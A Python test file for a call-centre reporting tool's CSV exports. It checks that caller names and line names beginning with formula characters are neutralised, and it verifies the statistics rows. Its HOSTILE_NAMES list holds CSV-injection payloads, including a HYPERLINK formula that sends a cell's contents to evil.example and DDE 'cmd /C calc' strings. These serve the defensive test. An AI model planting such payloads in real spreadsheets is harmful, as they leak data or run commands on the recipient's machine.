"""CSV exports: no cell a spreadsheet would run as a formula; the stats CSV's rows."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import pytest

from report_fixture import day_db, DAY_CALLS, call, make_db, write_config

from asterisk_bridge.config import load_config
from asterisk_bridge.report.build import build_figures
from asterisk_bridge.report.export import spreadsheet_safe, stats_csv, write_calls_csv

DAY = date(2026, 11, 25)
NOW = datetime(2026, 12, 1, tzinfo=timezone.utc).timestamp()

# Caller ID names anyone can set, each starting with a character OWASP lists.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Жалоба")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+7 916", "'+7 916"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Иван", "Иван"), ("", ""), ("1=1", "1=1"), (-5, -5), (0.5, 0.5), (None, None),
])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_the_day_calls_csv_neutralises_formulas(tmp_path):
    calls = [call(100 + i, f"2026-11-25T0{i}:00:00.000Z", "answered", wait=5, talk=30, name=name)
             for i, name in enumerate(HOSTILE_NAMES)]
    calls.append(call(200, "2026-11-25T08:00:00.000Z", "answered", wait=5, talk=30, number="+79161234567",
                      name="Иван Петров"))
    db = make_db(tmp_path / "calls.db", calls)
    cfg = load_config(write_config(tmp_path, db))
    path = tmp_path / "calls.csv"
    assert write_calls_csv(cfg, db, DAY, path) == len(calls)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    names = [r["caller_name"] for r in rows]
    assert names[:-1] == ["'" + n for n in HOSTILE_NAMES]  # the same text, shown as text
    assert names[-1] == "Иван Петров"
    assert rows[-1]["caller_number"] == "'+791***4567"  # masked, and a leading + is a formula start too
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_day_calls_csv_masks_a_number_in_the_name(tmp_path):
    db = make_db(tmp_path / "calls.db", DAY_CALLS)
    cfg = load_config(write_config(tmp_path, db))
    path = tmp_path / "calls.csv"
    write_calls_csv(cfg, db, DAY, path)
    text = path.read_text(encoding="utf-8")
    assert "123-45-67" not in text and "79161234567" not in text and "7916***4567" in text


def test_stats_csv_rows_and_a_formula_in_a_line_name(tmp_path):
    db = make_db(tmp_path / "calls.db", DAY_CALLS)
    path = write_config(tmp_path, db)
    path.write_text(path.read_text(encoding="utf-8").replace('name = "Линия 117"', 'name = "=Линия 117"'), "utf-8")
    cfg = load_config(path)
    figures = build_figures(db, cfg, DAY, DAY, context=False, notable=0, now=NOW)
    rows = list(csv.DictReader(io.StringIO(stats_csv(figures, cfg))))
    kinds = [r["kind"] for r in rows]
    assert kinds[:3] == ["line", "line", "total"]
    line = {r["line"]: r for r in rows if r["kind"] == "line"}
    assert line["117"]["name"] == "'=Линия 117"
    total = rows[2]
    assert (total["line"], total["name"], total["offered"], total["answered"]) == ("", "Всего", "15", "5")
    topics = {(r["line"], r["key"]): (r["name"], r["offered"], r["share"]) for r in rows if r["kind"] == "topic"}
    assert topics[("122", "housing")] == ("ЖКХ", "5", str(round(5 / 12, 4)))
    assert topics[("122", "")] == ("тема не выбрана", "4", str(round(4 / 12, 4)))
    assert topics[("117", "conditions")][1] == "3"
    hours = [r for r in rows if r["kind"] == "hour"]
    assert len(hours) == 24 * 3  # each line and the total
    total_hours = {r["key"]: int(r["offered"]) for r in hours if r["line"] == ""}
    assert sum(total_hours.values()) == 15 and total_hours["09"] == 5 and total_hours["00"] == 1  # calls 2, 3, 4, 13, 14
    assert {r["name"] for r in hours} == {f"{h:02d}:00" for h in range(24)}
    ages = {r["key"]: int(r["offered"]) for r in rows if r["kind"] == "age" and r["line"] == ""}
    assert ages == {"under-30": 1, "30-40": 1, "40-60": 2, "over-60": 1, "unknown": 10}
    # queue figures only on the line and total rows
    assert all(r["service_level"] == "" for r in rows if r["kind"] in ("topic", "age", "hour"))
    assert total["service_level"] == str(round(3 / 9, 4))


def test_stats_csv_queue_operator_and_pause_rows(tmp_path):
    db = day_db(tmp_path / "calls.db")
    cfg = load_config(write_config(tmp_path, db))
    figures = build_figures(db, cfg, DAY, DAY, context=False, notable=0, now=NOW)
    rows = list(csv.DictReader(io.StringIO(stats_csv(figures, cfg))))
    assert list(rows[0])[-3:] == ["auto", "occupancy", "flagged"]  # new columns come last
    queues = {r["key"]: r for r in rows if r["kind"] == "queue"}
    assert list(queues) == ["q-default", "q-housing", "q-health"]
    housing = queues["q-housing"]
    assert (housing["line"], housing["name"], housing["offered"], housing["answered"], housing["abandoned"],
            housing["service_level"], housing["longest_wait_seconds"]) == ("122", "ЖКХ", "5", "2", "1", "0.25", "300.0")
    assert queues["q-default"]["line"] == "122 117" and queues["q-default"]["unknown"] == "1"
    operators = [r for r in rows if r["kind"] == "operator"]
    assert [(r["key"], r["name"], r["answered"], r["flagged"]) for r in operators] == [
        ("PJSIP/1001", "Оператор 1", "2", "1"), ("PJSIP/1117", "Оператор 117", "2", "0"),
        ("PJSIP/1002", "Оператор 2", "1", "1")]
    assert (operators[2]["ring_outs"], operators[2]["auto_pauses"], operators[2]["logged_in_seconds"],
            operators[2]["paused_seconds"]) == ("1", "1", "54000.0", "1185.0")
    pauses = [(r["name"], r["key"], r["paused_seconds"], r["pauses"], r["auto"]) for r in rows if r["kind"] == "pause"]
    assert pauses == [("Оператор 1", "обед", "1799.9", "1", "0"), ("Оператор 1", "перерыв", "0.0", "1", "0"),
                      ("Оператор 2", "Auto-Pause", "1185.0", "1", "1")]
